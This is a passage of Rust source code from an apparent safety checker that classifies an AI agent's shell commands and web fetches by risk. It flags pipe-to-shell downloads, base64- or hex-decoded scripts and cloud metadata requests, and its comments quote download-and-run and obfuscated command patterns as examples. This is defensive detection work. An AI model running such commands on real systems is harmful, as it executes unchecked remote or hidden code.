                Some(class) => v.add(
                    class,
                    format!("{program} runs each line a download or decoder prints"),
                    s.text(),
                ),
                None => v.add(
                    &c::EXEC_STDIN_SCRIPT,
                    format!("{program} runs each line it is given as a command"),
                    s.text(),
                ),
            }
            return;
        }
        v.add(
            &c::EXEC_SHELL,
            "runs a command string (judged on its own)",
            s.text(),
        );
        return;
    }
    if let Some(at) = script {
        let script = &args[at];
        if let Some(inner) = script.strip_prefix("<(").and_then(|r| r.strip_suffix(')')) {
            match running_output_of(inner) {
                Some((class, reason)) => v.add(class, format!("{program} {reason}"), s.text()),
                None => v.add(
                    &c::EXEC_SHELL,
                    format!("{program} runs a tool's setup code"),
                    s.text(),
                ),
            }
        } else if script.contains("://") {
            v.add(
                &c::NET_PIPE_TO_SHELL,
                format!("{program} runs a script from the network"),
                s.text(),
            );
        } else if matches!(
            script.as_str(),
            "/dev/stdin" | "-" | "/proc/self/fd/0" | "/dev/fd/0"
        ) {
            stdin_script(program, s, v);
        } else if s.arg_dynamic(at)
            && script
                .rsplit('/')
                .next()
                .is_none_or(|name| name.contains(['$', '`']) || name.is_empty())
        {
            // `source "$X"`: which script runs is computed. (`. "$NVM_DIR/nvm.sh"` names its
            // script; only its directory is computed, and a script file is not read anyway.)
            v.add(
                &c::EXEC_UNREADABLE,
                format!("{program} runs `{script}`, a script whose path is computed"),
                s.text(),
            );
        } else if !written_earlier(script, s, program, Reader::Shell, v) {
            // A script file: its content is not read here.
            v.known = false;
        }
        return;
    }
    stdin_script(program, s, v);
}

/// A shell reading commands from its standard input.
fn stdin_script(program: &str, s: &Subject<'_>, v: &mut Verdict) {
    if let Some(text) = &s.command.stdin_text {
        // The shell reader walks here-documents fed to shells; `source /dev/stdin` it does not.
        if matches!(program, "source" | ".") {
            s.judge_line(text, &format!("{program} /dev/stdin"), v);
        }
        v.add(
            &c::EXEC_SHELL,
            "runs a here-document (judged on its own)",
            s.text(),
        );
        return;
    }
    if s.command.stage > 0 {
        for up in s.upstream() {
            if let Some(class) = is_fetch_or_decode(up) {
                v.add(
                    class,
                    format!(
                        "pipes the output of `{}` into {program}",
                        super::shorten(&up.text)
                    ),
                    s.text(),
                );
                return;
            }
        }
        let up = s.upstream().next();
        match up.and_then(Command::program) {
            Some("echo" | "printf") => {
                // Escapes the shell reader does not decode (`printf '\x72\x6d ...' | sh`).
                if let Some(text) = up.and_then(super::fs::printed)
                    && up.is_some_and(|u| u.effective.iter().skip(1).any(|a| a.contains('\\')))
                {
                    s.judge_line(&text, &format!("printed text piped to {program}"), v);
                }
                v.add(
                    &c::EXEC_SHELL,
                    "runs printed text (judged on its own)",
                    s.text(),
                );
            }
            Some("cat") => v.known = false,
            _ => v.add(
                &c::EXEC_STDIN_SCRIPT,
                format!("{program} runs commands read from a pipe that cannot be checked"),
                s.text(),
            ),
        }
        return;
    }
    if let Some(r) = s
        .command
        .redirects
        .iter()
        .find(|r| r.kind == RedirectKind::Read)
    {
        // `bash < <(curl ...)` runs what the process substitution prints; `bash < script.sh`
        // a script file, which is not read.
        if let Some(inner) = r
            .target
            .strip_prefix("<(")
            .and_then(|t| t.strip_suffix(')'))
        {
            match running_output_of(inner) {
                Some((class, reason)) => v.add(class, format!("{program} {reason}"), s.text()),
                None => v.add(
                    &c::EXEC_SHELL,
                    format!("{program} runs a tool's setup code"),
                    s.text(),
                ),
            }
        } else {
            v.known = false;
        }
        return;
    }
    v.known = false;
}

/// How a script's text is read: as shell, or as an interpreter's code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Reader {
    Shell,
    Code,
}

/// A script an earlier command of the same line writes (`curl -o i.sh ...; bash i.sh`,
/// `echo ... | base64 -d > x.sh && sh x.sh`): judged for what it holds when the writer's text
/// is known, run from the network when downloaded, and unreadable otherwise. Returns whether
/// the script was written earlier.
pub(super) fn written_earlier(
    script: &str,
    s: &Subject<'_>,
    program: &str,
    reader: Reader,
    v: &mut Verdict,
) -> bool {
    let name = script.rsplit('/').next().unwrap_or(script);
    if name.is_empty() {
        return false;
    }
    let names_it = |word: &str| {
        let word = word.strip_prefix("of=").unwrap_or(word);
        word == script || (word.ends_with(name) && word.rsplit('/').next() == Some(name))
    };
    let before = s
        .all
        .iter()
        .position(|c| std::ptr::eq(c, s.command))
        .unwrap_or(s.all.len());
    for c in s.all[..before].iter().rev() {
        let by_redirect = c.redirects.iter().any(|r| {
            matches!(r.kind, RedirectKind::Write | RedirectKind::Append) && names_it(&r.target)
        });
        let by_operand = c
            .effective
            .iter()
            .skip(1)
            .any(|a| names_it(a) || (a.contains("://") && a.ends_with(&format!("/{name}"))));
        if !by_redirect && !by_operand {
            continue;
        }
        if c.program().is_some_and(|p| FETCHERS.contains(&p)) {
            v.add(
                &c::NET_PIPE_TO_SHELL,
                format!("{program} runs `{script}`, downloaded earlier in the same command"),
                s.text(),
            );
            return true;
        }
        let content = match c.program() {
            Some("echo" | "printf") => super::fs::printed(c),
            Some("cat" | "tee") => c.stdin_text.clone(),
            _ => None,
        };
        match content {
            Some(text) => match reader {
                Reader::Shell => s.judge_line(&text, &format!("{program} {script}, written earlier"), v),
                Reader::Code => {
                    for (class, reason) in super::code::analyse(&text, s.ctx) {
                        v.add(class, format!("{program} runs `{script}`, written earlier, whose code {reason}"), s.text());
                    }
                    v.known = true;
                }
            },
            None if by_redirect || matches!(c.program(), Some("cp" | "mv" | "install" | "ln" | "tee" | "dd" | "base64" | "xxd" | "openssl")) => v.add(
                &c::EXEC_UNREADABLE,
                format!("{program} runs `{script}`, written earlier in the same command with content that cannot be read"),
                s.text(),
            ),
            None => continue,
        }
        return true;
    }
    false
}

/// Pipes into an interpreter: the same check as for shells.
pub(super) fn interpreter_stdin(program: &str, s: &Subject<'_>, v: &mut Verdict) -> bool {
    if s.command.stage == 0 {
        return false;
    }
    for up in s.upstream() {
        if let Some(class) = is_fetch_or_decode(up) {
            v.add(
                class,
                format!(
                    "pipes the output of `{}` into {program}",
                    super::shorten(&up.text)
                ),
                s.text(),
            );
            return true;
        }
    }
    false
}

/// WebFetch (and Monitor's WebSocket URL): allowed hosts are low, others need a person, and
/// the cloud metadata service is high.
pub(super) fn assess_web_fetch(url: &str, ctx: &Context, out: &mut Assessment) {
    let finding = match url_host(url) {
        Some(host) if is_metadata_host(host) => Finding::new(
            &c::NET_CLOUD_METADATA,
            format!("fetches from the cloud metadata service {host}"),
            url,
        ),
        Some(host) if host_allowed(host, &ctx.allowed_hosts) => Finding::new(
            &c::NET_FETCH,
            format!("fetches from the allowed host {host}"),
            url,
        ),
        Some(host) if url.contains('?') => Finding::new(
            &c::NET_FETCH_UNLISTED,
            format!("sends a query to {host}, which is not an allowed host"),
            url,
        ),
        Some(host) => Finding::new(
            &c::NET_FETCH_UNLISTED,
            format!("fetches from {host}, which is not an allowed host"),
            url,
        ),
        None => Finding::new(
            &c::NET_FETCH_UNLISTED,
            "fetches a URL whose host cannot be read",
            url,
        ),
    };
    out.findings.push(finding);
}
